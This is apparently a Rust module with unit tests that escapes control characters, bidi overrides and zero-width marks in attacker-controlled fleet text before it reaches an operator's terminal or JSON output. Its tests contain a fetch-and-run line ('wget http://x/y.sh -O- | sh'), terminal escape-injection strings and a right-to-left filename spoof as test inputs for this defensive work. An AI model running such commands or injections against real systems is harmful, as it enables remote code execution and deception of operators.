//! Text from the fleet printed safely: node names, event fields, commands and messages are
//! attacker-controlled, so control characters are shown escaped (`\x1b`, `\n`) instead of
//! reaching the operator's terminal, where they could move the cursor, rewrite earlier lines,
//! set the window title or worse.

use std::borrow::Cow;
use std::fmt::Write;

/// `text` with every character a terminal would act on escaped: C0 controls (`\n`, `\r`, `\t`,
/// `\x1b`, ...), DEL, C1 controls (`\x9b` is a one-byte CSI for some terminals) and the
/// invisible characters that reorder or hide text (bidi overrides, zero-width marks) as
/// `\u{..}`. A backslash is doubled, so the escaped form cannot be forged.
pub fn escape(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if u32::from(c) < 0x100 && needs_escape(c) => {
                let _ = write!(out, "\\x{:02x}", u32::from(c));
            }
            c if needs_escape(c) => {
                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

fn needs_escape(c: char) -> bool {
    c == '\\' || c.is_control() || invisible(c)
}

/// Format characters that change how the text around them is shown: bidi embeddings,
/// overrides and isolates, directional and zero-width marks, the BOM.
fn invisible(c: char) -> bool {
    matches!(
        c,
        '\u{061c}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{2069}'
            | '\u{feff}'
    )
}

/// A JSON document made safe to print unchanged in meaning: serde_json already escapes C0
/// controls inside strings, but not DEL, C1 controls or the invisible characters; those are
/// rewritten as `\uXXXX` escapes. They can only occur inside strings (they are not JSON
/// whitespace), so the document stays valid and equal to the original.
pub fn json_safe(json: &str) -> Cow<'_, str> {
    // Newlines and tabs outside strings are JSON whitespace; inside, serde_json escaped them.
    let unsafe_char =
        |c: char| (c.is_control() && !matches!(c, '\n' | '\r' | '\t')) || invisible(c);
    if !json.chars().any(unsafe_char) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 8);
    for c in json.chars() {
        if unsafe_char(c) {
            let _ = write!(out, "\\u{:04x}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_unchanged() {
        for text in [
            "",
            "root",
            "admin123!",
            "wget http://x/y.sh -O- | sh",
            "日本語 ñ é",
        ] {
            assert!(matches!(escape(text), Cow::Borrowed(_)), "{text}");
        }
    }

    #[test]
    fn control_characters_are_escaped() {
        let table = [
            ("\x1b[2J\x1b]0;pwned\x07", "\\x1b[2J\\x1b]0;pwned\\x07"),
            ("a\nb\rc\td", "a\\nb\\rc\\td"),
            ("nul\0", "nul\\x00"),
            ("del\x7f", "del\\x7f"),
            ("c1 \u{9b}31m", "c1 \\x9b31m"),
            ("back\\slash", "back\\\\slash"),
            ("fake \\x1b stays visible", "fake \\\\x1b stays visible"),
            ("evil\u{202e}txt.exe", "evil\\u{202e}txt.exe"),
            ("zero\u{200b}width", "zero\\u{200b}width"),
            ("\u{feff}bom", "\\u{feff}bom"),
        ];
        for (input, expected) in table {
            assert_eq!(escape(input), expected, "{input:?}");
        }
    }

    #[test]
    fn escaped_text_has_no_control_characters() {
        let all: String = (0u32..0x3000).filter_map(char::from_u32).collect();
        let escaped = escape(&all);
        assert!(!escaped.chars().any(|c| c.is_control() || invisible(c)));
    }

    #[test]
    fn json_stays_equal_and_loses_its_dangerous_characters() {
        let value = serde_json::json!({
            "username": "r\u{1b}[31moot\n", "password": "p\u{7f}\u{9b}w", "note": "a\u{202e}b",
            "plain": "ünï"
        });
        let text = serde_json::to_string_pretty(&value).unwrap();
        let safe = json_safe(&text);
        assert!(
            !safe
                .chars()
                .any(|c| (c.is_control() && !matches!(c, '\n' | ' ')) || invisible(c)),
            "{safe}"
        );
        let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
        assert_eq!(back, value);
        assert!(matches!(json_safe("{\"a\": \"b\"}\n"), Cow::Borrowed(_)));
    }
}
